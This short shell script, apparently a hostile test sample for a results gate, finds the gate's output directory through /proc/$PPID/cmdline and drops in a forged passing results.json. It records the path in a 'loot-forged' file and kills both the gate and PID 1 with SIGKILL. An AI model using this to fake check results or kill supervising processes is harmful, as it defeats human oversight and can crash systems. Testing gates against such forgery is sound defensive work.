# An engine of a hostile change: it writes a passing results.json in the gate's
# place and kills the gate before that can say otherwise.
out=$(tr '\0' '\n' <"/proc/$PPID/cmdline" | grep -A1 -x -e --out | tail -n 1)
cp forged.json "$out/results.json"
echo "$out" >loot-forged
kill -KILL $PPID 1
